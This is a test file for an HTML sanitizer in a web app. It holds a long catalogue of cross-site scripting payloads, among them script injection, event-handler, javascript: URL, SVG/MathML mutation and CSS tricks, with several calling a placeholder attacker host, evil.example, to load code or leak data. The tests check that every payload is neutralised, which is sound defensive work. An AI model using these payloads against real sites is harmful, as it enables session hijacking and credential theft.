// @vitest-environment jsdom
import { cleanHtml, cleanHtmlText, safeUrl, textOfHtml, withoutHandlers } from '@src/views/demo/shared/sanitizeHtml'
import { describe, expect, it } from 'vitest'

const HARMLESS_TAGS = /^(A|B|BLOCKQUOTE|BR|DIV|EM|H1|IMG|LI|OL|P|SPAN|STRONG|TABLE|TBODY|TD|TR|UL|U|I)$/
const HARMLESS_ATTRIBUTES = /^(alt|class|height|href|rel|src|target|title|width|align)$/

/** Messages of an attacker, by the kind of attack. */
const HOSTILE: Record<string, string[]> = {
  scripts: [
    '<script>alert(1)</script>',
    '<p>Bonjour<script src="//evil.example/x.js"></script></p>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script type="module">import("//evil.example")</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<xml><script>alert(1)</script></xml>',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" onload="alert(1)">',
    '<div onclick="alert(1)" onmouseover=alert(2)>ici</div>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<p onpointerenter="alert(1)" autofocus tabindex=1 onfocus="alert(1)">x</p>',
    '<video><source onerror="alert(1)"></video>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<img/src="x"/onerror=alert(1)//',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
  ],
  addresses: [
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="/apps/candidats">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="/api/notif">',
    '<img src="blob:https://evil.example/1">',
  ],
  foreign: [
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml,<svg id=x></svg>#x"></use></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  styles: [
    '<style>body{display:none}@import "//evil.example/x.css";</style>',
    '<p style="position:fixed;inset:0;background:url(//evil.example/p)">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="-moz-binding:url(//evil.example/x.xml#x)">x</div>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<table background="//evil.example/p.png"><tr><td background="//evil.example/q.png">x</td></tr></table>',
    '<p class="btn btn-primary compose" id="content">Cliquez</p>',
  ],
  forms: [
    '<form action="https://evil.example"><input name="password"><button>Ok</button></form>',
    '<input onfocus=alert(1) autofocus>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<select onchange=alert(1)><option>x</option></select>',
  ],
  documents: [
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<frameset onload=alert(1)></frameset>',
    '<html manifest="//evil.example"><head><title>x</title></head></html>',
    '<img name="getElementById"><a id="location" name="cookie">x</a>',
    '<dialog open>Votre session a expiré</dialog>',
  ],
  mutations: [
    '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<p>x<!--><img src=x onerror=alert(1)>--></p>',
    '<a title="</a><img src=x onerror=alert(1)>">x</a>',
    '<table><td><p><svg><desc><template><img src=x onerror=alert(1)></template></desc></svg></td></table>',
    `${'<div>'.repeat(400)}<img src=x onerror=alert(1)>${'</div>'.repeat(400)}`,
    '<select><style></select><img src=x onerror=alert(1)></style>',
  ],
}

function faultsOf(root: ParentNode): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => [
    ...(HARMLESS_TAGS.test(element.nodeName) ? [] : [element.nodeName]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!HARMLESS_ATTRIBUTES.test(name)) return [name]
      if (name === 'class') return value === 'image-held' ? [] : [`class=${value}`]
      if (name === 'href') return /^(https?|mailto|tel):/.test(value) ? [] : [`href=${value}`]
      return name === 'src' && !value.startsWith('data:image/') ? [`src=${value}`] : []
    }),
  ])
}

describe.each(Object.entries(HOSTILE))('hostile message with %s', (_name, messages) => {
  it.each(messages)('is made harmless: %s', (message) => {
    expect(faultsOf(cleanHtml(message).fragment)).toEqual([])
    // The result is still clean when it is parsed again.
    const again = document.createElement('div')
    again.innerHTML = cleanHtmlText(message)
    expect(faultsOf(again)).toEqual([])
    expect(textOfHtml(message)).not.toContain('<script')
  })
})

describe('harmless message', () => {
  it('keeps its text, structure and links, which open in a new tab', () => {
    const html = cleanHtmlText(
      '<p>Bonjour <b>Sami</b>,</p><ul><li>un</li></ul><a href="https://exemple.tn/a?b=1">ici</a>',
    )
    expect(html).toBe(
      '<p>Bonjour <b>Sami</b>,</p><ul><li>un</li></ul>' +
        '<a href="https://exemple.tn/a?b=1" target="_blank" rel="noopener noreferrer nofollow">ici</a>',
    )
  })

  it('never loads remote pictures and counts them', () => {
    const message =
      '<img src="https://evil.example/p.gif?who=1" width="1"><img alt="Logo" src="HTTP://x.example/l.png">'
    const held = cleanHtml(message)
    expect(held.heldBack).toBe(2)
    expect([...held.fragment.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([null, null])
  })

  it('loses its handlers before parsing, and no text', () => {
    expect(withoutHandlers('<a href="/x" onclick="go(1)" ONFOCUS=\'go()\'>on="1" onclick=\'x\'</a><br onload=a>')).toBe(
      '<a href="/x"  >on="1" onclick=\'x\'</a><br >',
    )
  })

  it('shows pictures embedded in a message', () => {
    const { fragment, heldBack } = cleanHtml('<img alt="Plan" src="data:image/png;base64,iVBORw0KGgo=">')
    expect(heldBack).toBe(0)
    expect(fragment.querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/png/)
  })

  it('shortens a message to one line in a list', () => {
    expect(textOfHtml('<p>Bonjour,</p><p>À <i>demain</i>&nbsp;!</p><style>p{}</style>')).toBe('Bonjour, À demain !')
  })
})

describe('safeUrl', () => {
  it.each(['javascript:alert(1)', ' JAVASCRIPT:alert(1)', 'vbscript:x', '/apps', '', 'data:,x'])(
    'refuses the address %s',
    (url) => {
      expect(safeUrl(url)).toBeNull()
    },
  )

  it.each(['https://exemple.tn/a.pdf', 'data:text/plain;charset=utf-8,x', 'blob:https://x/1'])(
    'accepts the address %s',
    (url) => {
      expect(safeUrl(url)).toBe(url)
    },
  )
})
